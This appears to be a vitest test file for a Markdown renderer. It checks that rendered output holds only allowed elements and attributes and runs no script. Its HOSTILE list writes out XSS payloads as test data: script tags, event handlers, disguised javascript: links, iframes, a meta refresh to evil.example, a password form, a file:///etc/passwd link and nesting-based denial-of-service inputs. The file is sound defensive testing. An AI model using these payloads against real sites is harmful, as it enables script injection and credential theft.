import { describe, expect, it } from "vitest";

import { build } from "./build";

function built(text: string): HTMLElement {
  const root = document.createElement("div");
  const work = build(root, text, "m");
  while (!work.next().done);
  return root;
}

/** Names of all elements that a text may ever become. */
const NAMES = new Set(
  "p h2 h3 h4 h5 h6 blockquote ul ol li table thead tbody tr th td em strong s span bdi a br hr code pre div input".split(
    " ",
  ),
);
/** Attributes that a text may have a say in, with what they may hold. */
const ATTRIBUTES: Record<string, RegExp> = {
  class: /^(chunk|link|address|picture|table|task|box|cut|front-matter|level-[1-6]|center|right|unseen)?$/,
  dir: /^auto$/,
  tabindex: /^(-1|0)$/,
  id: /^m-/,
  href: /^#m-/,
  title: /(?:)/s,
  start: /^-?\d+$/,
  role: /^(group|img|link)$/,
  "data-address": /^https?:\/\/\S+$/i,
  type: /^checkbox$/,
  disabled: /^$/,
  checked: /^$/,
  "aria-label": /^(Table|Done|To do|hidden character U\+[0-9A-F]{4,6}|\d+ hidden characters)$/,
  "data-line": /^\d+$/,
  "data-name": /^(U\+[0-9A-F]{4,6}|\d+ hidden characters|[a-z -]+)$/,
};

const HOSTILE: [name: string, text: string][] = [
  ["a script", "<script>window.hit = 1</script>"],
  ["a script in a list", "- <script src=//evil.example/x.js></script>"],
  ["a handler", '<img src=x onerror="window.hit = 1">'],
  ["a handler in a table", "| a |\n|---|\n| <img src=x onerror=window.hit=1> |"],
  ["a script address", "[press](javascript:window.hit=1)"],
  ["a script address in disguise", "[press](jAvAsCrIpT&#58;window.hit=1) [press](java\nscript:window.hit=1)"],
  ["a script address with controls", "[press](\u0001javascript:window.hit=1) <javascript:window.hit=1>"],
  ["other schemes", "[a](vbscript:x) [b](file:///etc/passwd) [c](data:text/html,<script>1</script>)"],
  ["an address that breaks out", '[a](https://x.example/"onmouseover="window.hit=1)'],
  ["a title that breaks out", '[a](https://x.example "x\\" onclick=window.hit=1 y=\\"")'],
  ["an info string that breaks out", '```js" onload="window.hit=1\ncode\n```'],
  ["a picture from elsewhere", "![alt](https://evil.example/pixel.png)"],
  ["a picture in the text", `![alt](data:image/svg+xml;base64,${"A".repeat(5000)})`],
  ["a drawing", "<svg><script>window.hit=1</script><animate onbegin=window.hit=1></svg>"],
  ["a style", "<style>body { display: none }</style><p style=position:fixed>x</p>"],
  [
    "a frame",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe><object data=x></object><embed src=x>",
  ],
  ["a comment", "<!-- hidden --> seen <!-- \n\n never closed"],
  ["a form", "<form action=//evil.example><input name=password><button>Go</button></form>"],
  ["a meta refresh", "<meta http-equiv=refresh content=0;url=//evil.example><base href=//evil.example>"],
  ["ids of the window", "# app\n\n## __proto__\n\n## constructor\n\n[x](#app)"],
  ["a reference to a script", "[a]\n\n[a]: javascript:window.hit=1"],
  ["quotes within quotes", `${">".repeat(10_000)} deep`],
  ["lists within lists", Array.from({ length: 1_500 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
  ["an open fence", "```\n<script>window.hit=1</script>\n".repeat(50)],
  ["open brackets", "[".repeat(20_000)],
  ["open pictures", "![".repeat(5_000)],
  ["emphasis without end", "*a **b ".repeat(5_000)],
  ["text from right to left", "# שלום\n\nعربي \u202Egnp.exe [שלום](https://x.example/\u202Egnp.exe)"],
  ["characters that are none", "a\u0000b \uFFFF \uD800 &#0; &#xD800; &#x110000;"],
  ["a wide table", `|${" a |".repeat(400)}\n|${"---|".repeat(400)}\n|${" <b> |".repeat(400)}`],
];

describe("whatever a text holds", () => {
  it.each(HOSTILE)("%s is made of known parts alone and does nothing", (_, text) => {
    const root = built(text);
    document.body.append(root);
    for (const element of root.querySelectorAll("*")) {
      expect(NAMES, element.tagName).toContain(element.tagName.toLowerCase());
      for (const { name, value } of element.attributes)
        expect(value, name).toMatch(ATTRIBUTES[name] ?? /^\b$/);
    }
    for (const link of root.querySelectorAll("a")) link.click();
    root.remove();
    expect("hit" in window).toBe(false);
  });

  it("shows HTML as its characters", () => {
    expect(built("<b onclick=x>bold</b>").textContent).toBe("<b onclick=x>bold</b>");
    expect(built("<!-- hidden -->").textContent).toBe("<!-- hidden -->");
  });

  it("names what hides in words, code and pictures, and keeps it", () => {
    const root = built("a\u202Eb `c\u200Bd` ![e\u2066f](x)\n\n```\ng\u001Bh\n```");
    const names = [...root.querySelectorAll<HTMLElement>(".unseen")].map((mark) => mark.dataset.name);
    expect(names).toEqual(["U+202E", "zero-width space", "U+2066", "U+001B"]);
    expect(root.textContent).toContain("a\u202Eb c\u200Bd e\u2066f");
  });

  it("says where links and pictures would lead", () => {
    expect(built("[bank](https://evil.example/a)").textContent).toBe("bank https://evil.example/a");
    expect(built("https://good.example/a").textContent).toBe("https://good.example/a");
    expect(built("[https://good.example](https://evil.example)").textContent).toContain(
      "https://evil.example",
    );
    expect(built("![a chart](https://x.example/c.png)").textContent).toBe("a chart https://x.example/c.png");
    expect(built("[a](javascript:x)").querySelector(".link")).toBeNull();
    expect(built(`![](data:image/png;base64,${"A".repeat(5000)})`).textContent?.length).toBeLessThan(150);
  });

  it("gives an address to what leads to the web, and to nothing else", () => {
    const leads = (text: string) =>
      [...built(text).querySelectorAll<HTMLElement>("[data-address]")].map(({ dataset }) => dataset.address);
    expect(leads("[a](https://x.example/a) <HTTP://y.example>")).toEqual([
      "https://x.example/a",
      "HTTP://y.example",
    ]);
    expect(leads("[a](mailto:a@x.example) [b](file:///etc/passwd) [c](#d) [e](javascript:f)")).toEqual([]);
  });

  it("says what it could not draw", () => {
    expect(built(">".repeat(10_000)).textContent).toContain("nested too deeply");
    expect(built("> > quote").querySelector(".cut")).toBeNull();
  });
});

describe("a Markdown text", () => {
  const html = (text: string) =>
    [...(built(text).firstElementChild?.childNodes ?? [])]
      .map((node) => new XMLSerializer().serializeToString(node))
      .join("")
      .replace(/ (xmlns|dir|data-line|tabindex|id|class)="[^"]*"/g, "")
      .replaceAll(" />", ">");

  it("becomes blocks", () => {
    expect(html("# A\n\nSetext\n---\n\n1\\. *em* **strong** ~~no~~ `code`\nnext  \nline")).toBe(
      "<h2>A</h2><h3>Setext</h3><p>1. <em>em</em> <strong>strong</strong> <s>no</s> <code>code</code>\nnext<br>\nline</p>".replace(
        "<br>\n",
        "<br>",
      ),
    );
    expect(html("> quote\n\n---\n\n    code\n")).toBe(
      "<blockquote><p>quote</p></blockquote><hr><pre><code>code\n</code></pre>",
    );
  });

  it("keeps its order and its parts together, however long it is", () => {
    const paragraphs = Array.from({ length: 450 }, (_, index) => `*${index}* and \`code\` of ${index}`);
    const root = built(paragraphs.join("\n\n"));
    expect([...root.querySelectorAll("p")].map((one) => one.textContent)).toEqual(
      paragraphs.map((one) => one.replace(/[*`]/g, "")),
    );
    expect(root.querySelectorAll(":scope > .chunk")).toHaveLength(5);
  });

  it("keeps lists tight or loose, and where they begin", () => {
    expect(html("3. a\n4. b\n   - c")).toBe('<ol start="3"><li>a</li><li>b<ul><li>c</li></ul></li></ol>');
    expect(html("- a\n\n- b")).toBe("<ul><li><p>a</p></li><li><p>b</p></li></ul>");
  });

  it("draws boxes where an item begins with one", () => {
    const boxes = [...built("- [ ] a\n- [x] b\n\n  [ ] no\n- [y] c\n\n[ ] no").querySelectorAll("input")];
    expect(boxes.map((box) => [box.checked, box.getAttribute("aria-label")])).toEqual([
      [false, "To do"],
      [true, "Done"],
    ]);
  });

  it("aligns the columns of tables", () => {
    const root = built("| a | b |\n|:-:|--:|\n| 1 | **2** |");
    expect([...root.querySelectorAll("td")].map((cell) => [cell.className, cell.textContent])).toEqual([
      ["center", "1"],
      ["right", "2"],
    ]);
  });

  it("shows front matter as it is and takes no heading from it", () => {
    const root = built("---\ntitle: A\n---\n# B");
    expect(root.querySelector(".front-matter")).toHaveTextContent("--- title: A ---");
    expect([...root.querySelectorAll("h2, h3")].map((heading) => heading.textContent)).toEqual(["B"]);
  });

  it("notes the lines of the text at blocks and headings", () => {
    const root = built("---\na: 1\n---\n\n# A\n\n> ## B\n\nend");
    expect([...root.querySelectorAll<HTMLElement>("[data-line]")].map(({ dataset }) => dataset.line)).toEqual(
      ["5", "7", "7", "9"],
    );
  });

  it("leads within the text, to headings of its own", () => {
    const root = built("[b](#über-uns) [none](#nowhere)\n\n# A\n\n# Über *uns*!\n\n# A");
    document.body.append(root);
    const [link, nowhere] = root.querySelectorAll("a");
    link?.click();
    expect(document.activeElement).toHaveTextContent("Über uns!");
    nowhere?.click();
    expect([...root.querySelectorAll("h2")].map(({ id }) => id)).toEqual(["m-a", "m-über-uns", "m-a-1"]);
    root.remove();
  });
});

it("reads past the byte order mark that a file begins with", () => {
  const root = built("\uFEFF# One\n\ntwo\uFEFF");
  expect(root.querySelector("h2")).toHaveTextContent("One");
  expect([...root.querySelectorAll(".unseen")].map((one) => one.closest("p")?.textContent)).toHaveLength(1);
});
